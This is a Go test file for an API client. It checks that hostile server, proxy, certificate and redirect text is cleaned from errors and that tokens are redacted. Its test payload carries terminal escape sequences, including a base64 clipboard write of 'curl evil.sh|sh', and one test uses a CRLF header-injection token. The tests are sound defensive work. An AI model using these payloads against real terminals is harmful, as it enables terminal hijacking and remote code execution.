package apiclient

import (
	"bufio"
	"context"
	"crypto/ecdsa"
	"crypto/elliptic"
	"crypto/rand"
	"crypto/tls"
	"crypto/x509"
	"crypto/x509/pkix"
	"errors"
	"fmt"
	"io"
	"log"
	"math/big"
	"net"
	"net/http"
	"net/http/httptest"
	"net/url"
	"runtime"
	"strings"
	"sync/atomic"
	"testing"
	"time"
)

// hostile is text a network attacker controls, with a terminal attack in it:
// a title change, a clipboard write, a screen clear, a bidi override and a C1 CSI.
const hostile = "\x1b]0;owned\x07\x1b]52;c;Y3VybCBldmlsLnNofHNo\x07\x1b[2J\u202e\u009b31m"

func assertSafe(t *testing.T, what, s string) {
	t.Helper()
	for _, bad := range []string{"\x1b", "\x07", "\u202e", "\u009b", fakeToken} {
		if strings.Contains(s, bad) {
			t.Fatalf("%s holds %q: %q", what, bad, s)
		}
	}
}

// A certificate's DNS names reach the error text when the name does not
// match: Go checks the name before the chain, so anyone on the path can
// choose them.
func TestHostileCertificateNamesCleaned(t *testing.T) {
	key, _ := ecdsa.GenerateKey(elliptic.P256(), rand.Reader)
	tmpl := &x509.Certificate{
		SerialNumber: big.NewInt(1),
		Subject:      pkix.Name{CommonName: "evil"},
		// IA5String allows only ASCII, escape sequences included.
		DNSNames:  []string{"evil\x1b]0;owned\x07\x1b]52;c;Y3VybA==\x07\x1b[2J.example"},
		NotBefore: time.Now().Add(-time.Hour),
		NotAfter:  time.Now().Add(time.Hour),
	}
	der, err := x509.CreateCertificate(rand.Reader, tmpl, tmpl, &key.PublicKey, key)
	if err != nil {
		t.Fatal(err)
	}
	ts := httptest.NewUnstartedServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {}))
	ts.TLS = &tls.Config{Certificates: []tls.Certificate{{Certificate: [][]byte{der}, PrivateKey: key}}}
	ts.Config.ErrorLog = quietLog()
	ts.StartTLS()
	defer ts.Close()
	c, err := New(ts.URL, fakeToken, WithRetries(0, 0))
	if err != nil {
		t.Fatal(err)
	}
	_, _, err = c.CurrentUser(context.Background())
	if !errors.Is(err, ErrTLS) {
		t.Fatalf("err = %v", err)
	}
	assertSafe(t, "TLS error", err.Error())
	if !strings.Contains(err.Error(), "certificate") {
		t.Fatalf("err = %v", err)
	}
}

// rawServer answers every connection with the bytes reply returns; for
// answers net/http refuses to write (control characters in headers).
func rawServer(t *testing.T, reply func(req string) string) string {
	t.Helper()
	ln, err := net.Listen("tcp", "127.0.0.1:0")
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() { ln.Close() })
	go func() {
		for {
			conn, err := ln.Accept()
			if err != nil {
				return
			}
			go func() {
				defer conn.Close()
				line, _ := bufio.NewReader(conn).ReadString('\n')
				conn.Write([]byte(reply(line)))
			}()
		}
	}()
	return ln.Addr().String()
}

// A proxy's reason phrase becomes Go's error text.
func TestHostileProxyReasonCleaned(t *testing.T) {
	proxy := rawServer(t, func(string) string {
		return "HTTP/1.1 403 Denied " + hostile + " " + fakeToken + "\r\nContent-Length: 0\r\n\r\n"
	})
	c, err := New("https://gitlab.example.com", fakeToken, WithRetries(0, 0))
	if err != nil {
		t.Fatal(err)
	}
	pu, _ := url.Parse("http://" + proxy)
	c.http.Transport.(*tokenTransport).base.(*http.Transport).Proxy = http.ProxyURL(pu)
	_, _, err = c.CurrentUser(context.Background())
	if !errors.Is(err, ErrNetwork) {
		t.Fatalf("err = %v", err)
	}
	assertSafe(t, "proxy error", err.Error())
	if !strings.Contains(err.Error(), "Denied") {
		t.Fatalf("the proxy's words are lost: %v", err)
	}
}

// A redirect target the server chooses, control characters and all.
func TestHostileRedirectTargetCleaned(t *testing.T) {
	for _, loc := range []string{"https://evil" + hostile + ".example/x", "https://evil.example/" + hostile} {
		addr := rawServer(t, func(string) string {
			return "HTTP/1.1 302 Found\r\nLocation: " + loc + "\r\nContent-Length: 0\r\n\r\n"
		})
		c, err := New("http://"+addr, fakeToken, WithRetries(0, 0))
		if err != nil {
			t.Fatal(err)
		}
		_, _, err = c.CurrentUser(context.Background())
		if err == nil {
			t.Fatal("redirect followed")
		}
		assertSafe(t, "redirect error", err.Error())
	}
}

// A server that echoes the token (an error page, a debug dump) does not get
// it printed, whatever the answer.
func TestEchoedTokenRedacted(t *testing.T) {
	for _, tc := range []struct {
		status int
		ct     string
		body   string
	}{
		{401, "application/json", `{"message":"token ` + fakeToken + ` is not valid"}`},
		{502, "text/html", "<html>upstream said PRIVATE-TOKEN: " + fakeToken + "</html>"},
		{200, "text/html", "<html>" + fakeToken + "</html>"},
		{403, "application/json", `{"error":"insufficient_scope","error_description":"` + fakeToken + `","scope":"` + fakeToken + `"}`},
	} {
		c := setup(t, func(w http.ResponseWriter, r *http.Request) {
			w.Header().Set("Content-Type", tc.ct)
			w.WriteHeader(tc.status)
			fmt.Fprint(w, tc.body)
		}, WithRetries(0, 0))
		_, _, err := c.CurrentUser(context.Background())
		if err == nil {
			t.Fatalf("%d: no error", tc.status)
		}
		assertSafe(t, "error", err.Error())
		var apiErr *APIError
		if errors.As(err, &apiErr) {
			assertSafe(t, "scope", apiErr.Scope)
		}
	}
	// In decoded data too.
	c := setup(t, func(w http.ResponseWriter, r *http.Request) {
		jsonReply(w, 200, `{"id":1,"username":"`+fakeToken+`","name":"x"}`)
	})
	u, _, err := c.CurrentUser(context.Background())
	if err != nil || strings.Contains(u.Username, fakeToken) {
		t.Fatal(u, err)
	}
}

// A write that meets a redirect is never re-sent and never reported done:
// Go would turn a redirected PATCH or DELETE into a GET, and re-send a POST
// on 307/308.
func TestRedirectedWritesFail(t *testing.T) {
	ctx := context.Background()
	for _, code := range []int{301, 302, 303, 307, 308} {
		for _, method := range []string{"POST", "PATCH", "PUT", "DELETE"} {
			t.Run(fmt.Sprintf("%s %d", method, code), func(t *testing.T) {
				var atTarget atomic.Int32
				c := setup(t, func(w http.ResponseWriter, r *http.Request) {
					if strings.HasPrefix(r.URL.Path, "/moved") {
						atTarget.Add(1)
						jsonReply(w, 200, `{"id":7,"active":true,"public_key":"glet_x","errtracker_dsn":"https://x","integrated":true}`)
						return
					}
					http.Redirect(w, r, "/moved"+r.URL.Path, code)
				})
				var err error
				switch method {
				case "POST":
					_, _, err = c.CreateClientKey(ctx, ProjectID(1))
				case "PATCH":
					_, _, err = c.UpdateSettings(ctx, ProjectID(1), false, nil)
				case "PUT":
					_, _, err = c.CreateSettings(ctx, ProjectID(1), true, true)
				case "DELETE":
					_, _, err = c.DeleteClientKey(ctx, ProjectID(1), 7)
				}
				if !errors.Is(err, ErrRedirectedWrite) {
					t.Fatalf("err = %v", err)
				}
				if !strings.Contains(err.Error(), "/moved/api/v4/") || !strings.Contains(err.Error(), "not re-sent") {
					t.Fatalf("the error does not say where: %v", err)
				}
				if n := atTarget.Load(); n != 0 {
					t.Fatalf("the write reached the redirect target %d times", n)
				}
				if OutcomeUnknown(err) {
					t.Fatal("a redirected write is not an unknown outcome: nothing was applied where it was sent")
				}
			})
		}
	}
}

// The first DELETE is applied but its answer is lost; the retry meets a 404.
// The key is deleted: that is success, and the caller can tell.
func TestRetriedDeleteThatFindsKeyGoneSucceeds(t *testing.T) {
	var calls atomic.Int32
	c := setup(t, func(w http.ResponseWriter, r *http.Request) {
		if calls.Add(1) == 1 {
			conn, _, _ := w.(http.Hijacker).Hijack()
			conn.Close() // applied, then the connection drops
			return
		}
		jsonReply(w, 404, `{"message":"404 Not found"}`)
	})
	k, resp, err := c.DeleteClientKey(context.Background(), ProjectID(1), 7)
	if err != nil || k == nil || k.ID != 7 || resp == nil || !resp.AlreadyGone {
		t.Fatalf("k=%v resp=%+v err=%v", k, resp, err)
	}
	// A first-attempt 404 is a key that never existed (or is gone): an error.
	c = setup(t, func(w http.ResponseWriter, r *http.Request) { jsonReply(w, 404, `{"message":"404 Not found"}`) })
	if _, _, err := c.DeleteClientKey(context.Background(), ProjectID(1), 7); !errors.Is(err, ErrKeyNotFound) {
		t.Fatalf("err = %v", err)
	}
}

// A server that sends empty pages with X-Next-Page forever ends the list.
func TestEndlessEmptyPagesStop(t *testing.T) {
	var calls atomic.Int32
	c := setup(t, func(w http.ResponseWriter, r *http.Request) {
		calls.Add(1)
		page := 0
		fmt.Sscan(r.URL.Query().Get("page"), &page)
		w.Header().Set("X-Next-Page", fmt.Sprint(page+1))
		if page == 1 {
			jsonReply(w, 200, `[{"id":1,"active":true,"public_key":"k","errtracker_dsn":"d"}]`)
			return
		}
		jsonReply(w, 200, `[]`)
	})
	keys, _, err := c.ListClientKeys(context.Background(), ProjectID(1))
	if err != nil || len(keys) != 1 {
		t.Fatal(keys, err)
	}
	// Pages go out DefaultConcurrency at a time: the ones in flight past
	// the end are the only extra requests.
	if n := calls.Load(); n > 1+DefaultConcurrency {
		t.Fatalf("%d requests for a list that ended at an empty page", n)
	}
}

// Many pages of one huge key each: the listing stops at its byte budget
// instead of holding every page.
func TestListingByteBudget(t *testing.T) {
	big := strings.Repeat("a", 1<<20)
	var calls atomic.Int32
	c := setup(t, func(w http.ResponseWriter, r *http.Request) {
		calls.Add(1)
		w.Header().Set("X-Total-Pages", "60")
		w.Header().Set("X-Total", "60")
		jsonReply(w, 200, `[{"id":1,"active":true,"public_key":"`+big+`","errtracker_dsn":"d"}]`)
	}, WithMaxList(8<<20))
	_, _, err := c.ListClientKeys(context.Background(), ProjectID(1))
	if !errors.Is(err, ErrTooLarge) {
		t.Fatalf("err = %v", err)
	}
	if n := calls.Load(); n > 8+DefaultConcurrency+1 {
		t.Fatalf("%d pages fetched past an 8 MiB budget of 1 MiB pages", n)
	}
}

func TestCAFileFromDeviceRefused(t *testing.T) {
	if runtime.GOOS == "windows" {
		t.Skip("no /dev/zero")
	}
	done := make(chan error, 1)
	go func() { _, err := New("https://gitlab.example.com", fakeToken, WithCAFile("/dev/zero")); done <- err }()
	select {
	case err := <-done:
		if err == nil || !strings.Contains(err.Error(), "not a regular file") {
			t.Fatalf("err = %v", err)
		}
	case <-time.After(5 * time.Second):
		t.Fatal("reading /dev/zero as a CA file did not stop")
	}
}

// A token with a stray newline (a keyring entry stored with one) is a clear
// error of its own, not an "invalid header field" network failure.
func TestMalformedToken(t *testing.T) {
	for _, tok := range []string{"abc\n", "a b", "x\x00y", "tok\r\nX-Evil: 1"} {
		_, err := New("https://gitlab.example.com", tok)
		if !errors.Is(err, ErrBadToken) {
			t.Fatalf("%q: err = %v", tok, err)
		}
		if strings.Contains(err.Error(), tok) {
			t.Fatalf("the token is in the error: %v", err)
		}
	}
}

func TestNetworkFailuresAreTheirOwnKind(t *testing.T) {
	c, _ := New("http://127.0.0.1:1", fakeToken, WithRetries(0, 0))
	_, _, err := c.CurrentUser(context.Background())
	if !errors.Is(err, ErrNetwork) || errors.Is(err, ErrServer) {
		t.Fatalf("err = %v", err)
	}
}

func quietLog() *log.Logger { return log.New(io.Discard, "", 0) }
